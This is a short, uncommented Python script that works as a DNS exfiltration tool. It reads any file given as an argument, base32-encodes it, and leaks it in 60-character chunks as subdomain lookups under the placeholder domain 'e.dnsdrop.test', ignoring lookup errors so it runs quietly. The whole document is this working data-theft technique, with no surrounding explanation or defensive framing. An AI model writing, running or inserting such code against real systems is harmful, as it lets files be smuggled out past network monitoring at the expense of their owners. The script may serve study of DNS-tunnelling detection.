import sys, base64, socket
data = base64.b32encode(open(sys.argv[1], "rb").read()).decode().rstrip("=").lower()
for n, i in enumerate(range(0, len(data), 60)):
    try:
        socket.gethostbyname(f"{n}.{data[i:i+60]}.e.dnsdrop.test")
    except OSError:
        pass
